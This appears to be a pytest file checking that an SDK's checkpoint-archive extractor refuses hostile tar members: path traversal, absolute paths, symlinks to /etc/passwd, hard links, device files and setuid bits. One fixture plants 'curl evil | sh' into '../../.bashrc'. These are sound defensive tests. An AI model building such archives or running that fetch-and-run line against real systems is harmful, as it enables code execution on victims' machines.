"""Unpacking a checkpoint archive on a Python whose tarfile has no ``data`` filter
(3.10.0-3.10.11, which the SDK supports): an archive from a hostile server must not
write outside the target, plant links or keep a setuid bit. The filter is taken away
here the way those Pythons lack it, and the archives are built the way an attacker would."""

from __future__ import annotations

import io
import stat
import tarfile
from pathlib import Path

import pytest

from api import archives
from api.errors import RaydockError


def tar_of(*members: tuple[tarfile.TarInfo, bytes]) -> tarfile.TarFile:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for info, data in members:
            info.size = len(data) if info.isfile() else 0
            tar.addfile(info, io.BytesIO(data) if info.isfile() else None)
    buf.seek(0)
    return tarfile.open(fileobj=buf, mode="r:gz")


def member(name: str, kind: bytes = tarfile.REGTYPE, mode: int = 0o644, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.mode, info.linkname = kind, mode, link
    return info


HOSTILE = [
    ("a path out of the target", member("../../.bashrc"), b"curl evil | sh\n"),
    ("an absolute path", member("/tmp/raydock-planted"), b"x"),
    ("a symlink to a server-chosen path", member("model.pt", tarfile.SYMTYPE, link="/etc/passwd"), b""),
    ("a hard link out of the target", member("state.json", tarfile.LNKTYPE, link="../../victim"), b""),
    ("a device file", member("dev", tarfile.CHRTYPE), b""),
]


@pytest.fixture
def old_tarfile(monkeypatch):
    """tarfile as on Python 3.10.0-3.10.11: no data filter."""
    if hasattr(tarfile, "data_filter"):
        monkeypatch.delattr(tarfile, "data_filter")


@pytest.mark.parametrize("what,info,data", HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_members_are_refused_without_the_data_filter(tmp_path, old_tarfile, what, info, data):
    target = tmp_path / "ckpt"
    target.mkdir()
    with tar_of((member("ok.txt"), b"fine"), (info, data)) as tar, pytest.raises(RaydockError) as refused:
        archives.extract(tar, target)
    assert refused.value.code == "archive_unsafe" and info.name in refused.value.message
    assert list(target.iterdir()) == []  # checked before anything is written
    assert not (tmp_path / ".bashrc").exists() and not Path("/tmp/raydock-planted").exists()


def test_plain_checkpoints_unpack_without_setuid_bits(tmp_path, old_tarfile):
    target = tmp_path / "ckpt"
    target.mkdir()
    files = ((member("shards", tarfile.DIRTYPE, 0o755), b""), (member("shards/0.pt", mode=0o4755), b"weights"))
    with tar_of(*files, (member("state.json", mode=0o666), b"{}")) as tar:
        archives.extract(tar, target)
    assert (target / "shards" / "0.pt").read_bytes() == b"weights"
    assert stat.S_IMODE((target / "shards" / "0.pt").stat().st_mode) == 0o755
    assert stat.S_IMODE((target / "state.json").stat().st_mode) & 0o022 == 0


def test_the_data_filter_is_used_where_tarfile_has_it(tmp_path):
    if not hasattr(tarfile, "data_filter"):
        pytest.skip("this Python's tarfile has no data filter")
    with tar_of((member("../escape"), b"x")) as tar, pytest.raises(RaydockError) as refused:
        archives.extract(tar, tmp_path)
    assert refused.value.code == "archive_unsafe" and "data filter" in refused.value.message
    assert not (tmp_path.parent / "escape").exists()
